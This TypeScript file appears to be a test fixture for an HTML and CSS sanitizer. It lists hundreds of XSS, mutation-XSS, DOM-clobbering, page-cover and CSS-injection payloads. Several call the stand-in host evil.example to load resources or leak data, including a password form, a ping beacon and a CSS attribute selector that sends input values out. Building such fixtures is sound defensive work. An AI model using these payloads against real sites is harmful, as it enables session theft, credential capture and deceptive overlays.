/*
 * Pages of a hostile owner, for tests: each one requests the host `evil.example`, sets `window.pwned`, navigates elsewhere,
 * reads a password, or covers the rest of the page.
 */

const evil = 'https://evil.example';
const code = 'window.pwned=1';

const scripts = [
  `<script>${code}</script>`,
  `<script src="${evil}/a.js"></script>`,
  `<script type="module">${code}</script>`,
  `<SCRIPT/XSS SRC="${evil}/b.js"></SCRIPT>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<<script>${code}//<</script>`,
  `<script\u0000>${code}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<template><script>${code}</script></template>`,
  `<template shadowrootmode="open"><img src="${evil}/t.png"><script>${code}</script></template>`,
  `<textarea></textarea><script>${code}</script>`,
  `<textarea><img src="</textarea><img src=x onerror=${code}>">`,
  `<title></title><script>${code}</script>`,
  `<xmp><p title="</xmp><img src=x onerror=${code}>">`,
  `<plaintext><script>${code}</script>`,
  `<!--><script>${code}</script>-->`,
  `<!--!><img src=x onerror=${code}>-->`,
  `<![CDATA[<script>${code}</script>]]>`,
  `<?xml version="1.0"?><script>${code}</script>`,
];

const handlers = [
  `<img src=x onerror=${code}>`,
  `<img src="/media/none.webp" onerror="${code}">`,
  `<img src=x:x onerror\u000c=${code}>`,
  `<img/src=x/onerror=${code}>`,
  `<img src=\`x\` onerror=${code}>`,
  `<body onload=${code}>`,
  `<details open ontoggle=${code}><summary>x</summary></details>`,
  `<input autofocus onfocus=${code}>`,
  `<select autofocus onfocus=${code}></select>`,
  `<video src=x onerror=${code}></video>`,
  `<video><source onerror=${code} src=x></video>`,
  `<audio src=x onerror=${code}></audio>`,
  `<p style="animation:x" onanimationstart=${code}>x</p>`,
  `<button onclick=${code} autofocus>Pay</button>`,
  `<a href="/" onmouseover=${code} onpointerenter=${code}>x</a>`,
  `<marquee onstart=${code}>x</marquee>`,
  `<p oncontentvisibilityautostatechange=${code} style="content-visibility:auto">x</p>`,
  `<p ONERROR=${code} OnLoad=${code} onbeforematch=${code} hidden=until-found>x</p>`,
];

const links = [
  `<a href="javascript:${code}">x</a>`,
  `<a href=" &#1; javascript:${code}">x</a>`,
  `<a href="java\tscript:${code}">x</a>`,
  `<a href="java&#10;script:${code}">x</a>`,
  `<a href="&#x6A;avascript:${code}">x</a>`,
  `<a href="JaVaScRiPt:${code}">x</a>`,
  `<a href="data:text/html,<script>${code}</script>">x</a>`,
  `<a href="vbscript:${code}">x</a>`,
  `<a href="blob:${evil}/x">x</a>`,
  `<a href="//evil.example" ping="${evil}/ping" target="_top" rel="opener">x</a>`,
  `<a href="/" target="_parent" download="x.exe">x</a>`,
  `<area href="javascript:${code}" shape="default">`,
  `<form action="javascript:${code}"><button>x</button></form>`,
  `<form data-pm-search action="${evil}/f" method="post"><button formaction="${evil}/g">x</button></form>`,
  `<form action="${evil}/f"><input type="password" name="password"><input type="file"></form>`,
  `<button form="f" formaction="javascript:${code}">x</button>`,
  `<isindex action="javascript:${code}" type="image">`,
  `<input type="image" src="${evil}/i.png" formaction="javascript:${code}">`,
];

const foreign = [
  `<svg onload=${code}></svg>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><a xlink:href="javascript:${code}"><text y="9">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${code}</script></svg>#x"></svg>`,
  `<svg><image href="${evil}/s.png"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${code}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${code}></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  `<svg><animate attributeName=href values=javascript:${code} /></svg>`,
  `<math><mi xlink:href="javascript:${code}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${code}></style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
  `<table><td><svg><desc><table><title></title><img src=x onerror=${code}></table></desc></svg></td></table>`,
];

const loads = [
  `<img src="${evil}/a.png">`,
  `<img srcset="${evil}/a.png 1x, //evil.example/b.png 2x">`,
  `<img src="/media/a.webp" srcset="/media/a.webp 1x,${evil}/c.png 2x">`,
  `<picture><source srcset="${evil}/p.png"><img src="/media/a.webp" alt=""></picture>`,
  `<video poster="${evil}/v.png" src="${evil}/v.mp4" autoplay></video>`,
  `<video><track src="${evil}/t.vtt" default></video>`,
  `<p background="${evil}/b.png">x</p>`,
  `<table background="${evil}/b.png"><tr><td background="${evil}/c.png">x</td></tr></table>`,
  `<iframe src="${evil}"></iframe>`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<object data="${evil}/o.swf"></object>`,
  `<embed src="${evil}/e.swf">`,
  `<link rel="stylesheet" href="${evil}/l.css">`,
  `<link rel="prefetch" href="${evil}/l"><link rel="dns-prefetch" href="${evil}">`,
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="${evil}/">`,
  `<frameset><frame src="${evil}"></frameset>`,
  `<portal src="${evil}"></portal>`,
  `<img src="/logout"><img src="/locale/fr?path=/">`,
  `<img src="/media/../logout">`,
  `<img lowsrc="${evil}/x.png" dynsrc="${evil}/y.png" longdesc="${evil}">`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${evil}"]}]}</script>`,
];

const covers = [
  `<style>*{position:fixed!important;inset:0;z-index:2147483647}</style>`,
  `<p style="position:fixed;inset:0;z-index:2147483647;background:red">Pay here</p>`,
  `<dialog open style="position:fixed;inset:0">Pay</dialog>`,
  `<div popover="manual" id="p">Pay</div><button popovertarget="p">x</button>`,
  `<button commandfor="p" command="show-modal">x</button><dialog id="p"></dialog>`,
  `<div class="fl-cover">Pay here</div>`,
  `<table style="margin-top:-9999px"><tr><td>x</td></tr></table>`,
  `<slot name="x"></slot><p slot="x" part="x" is="x-y">x</p><x-element></x-element>`,
];

const clobbers = [
  `<form data-pm-search id="querySelector" name="closest"><input name="attributes"><input id="getAttribute" name="matches"></form>`,
  `<form data-pm-buy="1"><input id="querySelectorAll" name="quantity"><img name="setAttribute" alt=""></form>`,
  `<img name="body" alt=""><img id="documentElement" alt=""><a id="pwned" href="/">x</a>`,
  `<form data-pm-newsletter><input name="nodeName"><input name="childNodes"><input id="parentNode"></form>`,
  `<a id="trustedTypes"></a><a id="__proto__" class="constructor">x</a>`,
  `<p __proto__="x" constructor="y" data-pm-constructor="z" data-pm-__proto__="z">x</p>`,
];

const hooks = [
  `<button data-pm-delete>x</button><a data-pm-open="javascript:${code}" href="/">x</a>`,
  `<ul data-pm-products="ids" data-pm-ids="1,<script>${code}</script>"><li data-pm-row><img data-pm-field="image"><b data-pm-field="name"></b></li></ul>`,
  `<ul data-pm-products="collection" data-pm-collection="../../user/info"><li data-pm-row>x</li></ul>`,
  `<ul data-pm-reviews="1"><li data-pm-row data-pm-key="1" data-pm-state="ready"><a data-pm-link href="javascript:${code}">x</a></li></ul>`,
  `<div data-pm-cart><p data-pm-row><iframe data-pm-field="image"></iframe><script data-pm-field="name"></script></p></div>`,
];

const plain: readonly string[] = [
  ...scripts,
  ...handlers,
  ...links,
  ...foreign,
  ...loads,
  ...covers,
  ...clobbers,
  ...hooks,
];

/** Ways to hide a payload from a naive HTML parser. */
const disguises: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `<!doctype html><html><head></head><body class="x">${payload}</body></html>`,
  (payload) => `<section class="a"><div><p>${payload}</p></div></section>`,
  (payload) =>
    payload.replace(/<(\/?)([a-z]+)/gi, (_, slash: string, name: string) => `<${slash}${name.toUpperCase()}`),
  (payload) => `<table><tr><td>${payload}<select><option>${payload}</select>`,
];

/** At least five hundred payloads. */
export const payloads: readonly string[] = disguises.flatMap((disguise) => plain.map(disguise));

/** Stylesheets of a hostile owner. */
export const cssPayloads: readonly string[] = [
  `@import "${evil}/a.css";`,
  `@import url(${evil}/a.css) layer(x);`,
  `@IMPORT '${evil}/a.css';p{color:red}`,
  `@\\69mport "${evil}/a.css";`,
  `p{background:url(${evil}/a.png)}`,
  `p{background:url("${evil}/a.png")}`,
  `p{background:URL( '${evil}/a.png' )}`,
  `p{background:\\75rl(${evil}/a.png)}`,
  `p{background:u\\72l("${evil}/a.png")}`,
  `p{background:url(//evil.example/a.png)}`,
  `p{background:url(\\68ttps://evil.example/a.png)}`,
  `p{background:image-set("${evil}/a.png" 1x)}`,
  `p{background:-webkit-image-set(url(${evil}/a.png) 1x)}`,
  `p{background:image-set("${evil}/a.png" type("image/png") 1x)}`,
  `:host{--u:"${evil}/a.png"}p{background:image-set(var(--u) 1x)}`,
  `:host{--u:url(${evil}/a.png)}p{background:var(--u)}`,
  `:host{--u:image-set("${evil}/a.png" 1x)}p{background:var(--u)}`,
  `p{background:src("${evil}/a.png")}`,
  `p{background:cross-fade(url(${evil}/a.png),url(${evil}/b.png),50%)}`,
  `p{list-style-image:url(${evil}/a.png);cursor:url(${evil}/c.cur),auto;border-image:url(${evil}/b.png)}`,
  `p::before{content:url(${evil}/a.png)}`,
  `@font-face{font-family:x;src:url(${evil}/f.woff2)}p{font-family:x}`,
  `p{filter:url(${evil}/f.svg#x);mask:url(${evil}/m.svg#m);clip-path:url(${evil}/c.svg#c)}`,
  `@media all{@supports (color:red){p{background:url(${evil}/a.png)}}}`,
  `@namespace url(${evil});`,
  `@page{background:url(${evil}/a.png)}`,
  `@property --x{syntax:"*";inherits:true;initial-value:url(${evil}/a.png)}`,
  `@container (width > 0px) {p{background:url(${evil}/a.png)}}`,
  `</style><script>${code}</script>`,
  `p::after{content:"</style><img src=x onerror=${code}>"}`,
  `p{color:red}}}}@layer pm.guard{p{background:url(${evil}/a.png)}}`,
  `p{background:image-set(} "${evil}/a.png" 1x)}`,
  `p{background:url(${evil}/a.png`,
  `p{background:url("${evil}/a.png\n");color:red}`,
  `p{background:url('\n${evil}/a.png)}`,
  `/* */p{/**/background/**/:/**/url(/**/${evil}/a.png)}`,
  `<!-- p{background:url(${evil}/a.png)} -->`,
  `p,.fl-cover{position:fixed!important;inset:0!important;z-index:2147483647!important;width:200vw;height:200vh;background:red}`,
  `:host{position:fixed!important;inset:0!important;z-index:2147483647!important;margin:-100vh!important;background:red;display:block!important;transform:scale(99)!important}`,
  `:host,:root,html,body,*{contain:none!important;overflow:visible!important;position:fixed!important;inset:-50vh!important}`,
  `:host-context(body){position:fixed!important;inset:0!important}`,
  `p{position:sticky;top:0;margin:-9999px;transform:scale(100);outline:9999px solid red;box-shadow:0 0 0 9999px red}`,
  `html,body,button,#pay{display:none!important;visibility:hidden!important;pointer-events:none!important}`,
  `input[value^=a]{background:url(${evil}/a)}`,
  `p{-moz-binding:url(${evil}/x.xml#x);behavior:url(${evil}/x.htc);width:expression(${code})}`,
  `p{view-transition-name:root}@view-transition{navigation:auto}`,
  `select,select::picker(select){appearance:base-select}select::picker(select){position:fixed;inset:0;width:100vw;height:100vh;background:red}`,
  `:host{--a:base-select}select,select::picker(select){appearance:var(--a);appearance:attr(title type(*))}select::picker(select){position:fixed;inset:0;width:100vw;height:100vh}`,
];
